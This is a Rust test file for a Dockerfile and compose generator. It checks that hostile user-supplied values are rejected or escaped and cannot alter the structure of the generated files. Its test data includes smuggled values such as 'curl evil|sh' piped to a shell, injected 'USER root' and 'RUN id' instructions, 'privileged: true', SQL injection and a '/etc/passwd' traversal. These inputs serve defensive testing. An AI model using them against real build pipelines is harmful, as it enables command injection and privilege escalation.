//! Hostile values from user files must not change the structure of the generated files:
//! same Dockerfile instructions, hadolint still clean, compose still valid with the same
//! keys. And Plan::validate rejects them before the app or CLI renders.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod render_support;

use berth_core::plan::{BuildStep, Plan};
use berth_core::render::{render, Templates};
use berth_core::stacks::{Service, Stack};
use render_support::*;

const EVIL: &[&str] = &[
    "x\nRUN curl evil|sh",
    "\n  privileged: true",
    "\"]\nUSER root\nCMD [\"sh",
    "$(curl evil|sh) `id` ${HOME}",
    "a\\\nRUN id",
    "'; DROP TABLE x; --",
    "\u{2028}USER root\u{85}x\r\nRUN id",
];

fn base_plans() -> Vec<Plan> {
    sample_detections()
        .into_iter()
        .map(|(n, d)| {
            let mut p = Plan::from_detection(&d).named(n);
            p.build_steps.push(BuildStep::new(&["echo", "hello"], &[]));
            p
        })
        .collect()
}

/// Put `evil` into every free-text value of the plan (the ones that are rendered as
/// JSON/YAML strings rather than validated paths or names).
fn poison(plan: &Plan, evil: &str) -> Plan {
    let mut p = plan.clone();
    p.start_command.push(evil.to_string());
    p.start_command[0] = format!("{}{evil}", p.start_command[0]);
    // A user-edited build step carrying the value (the benign plans get the same step
    // with a plain value, see `base_plans`).
    p.build_steps.last_mut().unwrap().argv[1] = evil.to_string();
    for v in p.env.values_mut() {
        v.push_str(evil);
    }
    p.env.insert("EVIL".into(), evil.to_string());
    p.framework = Some(evil.to_string());
    p.name = evil.to_string();
    if let Some(mut argv) = plan.health_argv() {
        argv.push(evil.to_string());
        p.healthcheck.as_mut().unwrap().command = Some(argv);
    }
    p.limits.cpus = "1.0".into();
    p
}

#[test]
fn hostile_values_keep_the_dockerfile_structure() {
    let mut rendered = Vec::new();
    for plan in base_plans() {
        let benign = render(&plan, &Templates::embedded()).unwrap();
        let shape = |d: &str| -> Vec<String> {
            instructions(d)
                .iter()
                .map(|i| i.split_whitespace().next().unwrap().to_string())
                .collect()
        };
        for evil in EVIL {
            let p = poison(&plan, evil);
            let out = render(&p, &Templates::embedded())
                .unwrap_or_else(|e| panic!("{}: render failed for {evil:?}: {e}", plan.name));
            assert_eq!(
                shape(&out.dockerfile),
                shape(&benign.dockerfile),
                "{} with {evil:?}:\n{}",
                plan.name,
                out.dockerfile
            );
            let cmd = instructions(&out.dockerfile)
                .into_iter()
                .rev()
                .find(|i| i.starts_with("CMD "))
                .unwrap();
            let argv: Vec<String> = serde_json::from_str(&cmd[4..]).unwrap();
            assert_eq!(argv, p.start_command, "CMD must carry the value verbatim");
            rendered.push((format!("{} with {evil:?}", plan.name), out.dockerfile));
        }
    }
    let findings = hadolint_many(&rendered);
    assert!(findings.is_empty(), "{findings:?}");
}

#[test]
fn hostile_values_keep_the_compose_structure() {
    // One plan with every service, so every branch of the compose template is exercised.
    let mut d = detection(Stack::Python);
    d.services = vec![
        Service::Redis,
        Service::Postgres,
        Service::Mysql,
        Service::Mongodb,
        Service::Rabbitmq,
        Service::Memcached,
    ];
    d.health_path = Some("/health".into());
    d.manifests = vec!["requirements.txt".into()];
    let mut plan = Plan::from_detection(&d).named("all-services");
    plan.build_steps
        .push(BuildStep::new(&["echo", "hello"], &[]));
    let benign = render(&plan, &Templates::embedded()).unwrap();
    let benign_yaml = yaml_keys(&benign.compose);
    for evil in EVIL {
        let p = poison(&plan, evil);
        let out = render(&p, &Templates::embedded()).unwrap();
        compose_schema(&out.compose).unwrap_or_else(|e| panic!("{evil:?}: {e}\n{}", out.compose));
        let mut keys = yaml_keys(&out.compose);
        // The only new key is the EVIL variable added to the environment.
        keys.retain(|k| k != "services.app.environment.EVIL");
        assert_eq!(keys, benign_yaml, "{evil:?}:\n{}", out.compose);
        assert!(
            !out.compose.contains("privileged: true\n"),
            "{}",
            out.compose
        );
        // The value comes back verbatim (with `$` escaped as `$$` for compose).
        let v = parse_yaml(&out.compose);
        let got = v["services"]["app"]["environment"]["EVIL"]
            .as_str()
            .unwrap();
        assert_eq!(got, evil.replace('$', "$$"));
    }
}

#[test]
fn validate_rejects_hostile_values() {
    for plan in base_plans() {
        plan.validate().unwrap();
        for evil in EVIL.iter().filter(|e| e.chars().any(char::is_control)) {
            let err = poison(&plan, evil).validate().unwrap_err();
            assert_eq!(err.kind(), berth_core::ErrorKind::InvalidPlan, "{evil:?}");
        }
    }
}

#[test]
fn hostile_detection_values_are_dropped_by_the_plan() {
    let mut d = detection(Stack::Node);
    d.manifests = vec![
        "package.json".into(),
        "x\nRUN id".into(),
        "../../etc/passwd".into(),
    ];
    d.hints
        .insert("output_dir".into(), "dist\nUSER root".into());
    d.hints
        .insert("build_script".into(), "build; curl evil|sh".into());
    d.health_path = Some("/h')\nimport os".into());
    d.port = Some(0);
    d.start_command = vec!["run $(curl evil|sh)\nRUN curl evil|sh".into()];
    let plan = Plan::from_detection(&d);
    assert_eq!(
        plan.start_command,
        ["node", "index.js"],
        "stack default replaces it"
    );
    plan.validate().unwrap();
    assert_eq!(plan.manifests, ["package.json"]);
    assert!(plan.hints.is_empty(), "{:?}", plan.hints);
    assert!(plan.healthcheck.is_none());
    assert_ne!(plan.port, 0);
    let out = render(&plan, &Templates::embedded()).unwrap();
    assert!(hadolint(&out.dockerfile).is_empty());
}

/// Every key path in a YAML document (`services.app.ports`), sorted.
fn yaml_keys(text: &str) -> Vec<String> {
    fn walk(v: &serde_json::Value, at: &str, out: &mut Vec<String>) {
        if let serde_json::Value::Object(m) = v {
            for (k, x) in m {
                let path = if at.is_empty() {
                    k.clone()
                } else {
                    format!("{at}.{k}")
                };
                out.push(path.clone());
                walk(x, &path, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(&parse_yaml(text), "", &mut out);
    out.sort();
    out
}

/// Parse YAML with Python's ruamel.yaml (a check-jsonschema dependency): an
/// independent parser, so the test does not trust our own quoting.
fn parse_yaml(text: &str) -> serde_json::Value {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let python = if Command::new("python3").arg("--version").output().is_ok() {
        "python3"
    } else {
        "python"
    };
    let mut child = Command::new(python)
        .args([
            "-c",
            "import json, sys; from ruamel.yaml import YAML; \
             print(json.dumps(YAML(typ='safe').load(sys.stdin.read())))",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 with ruamel.yaml (pip install check-jsonschema pulls it in)");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "YAML did not parse: {}\n{text}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}
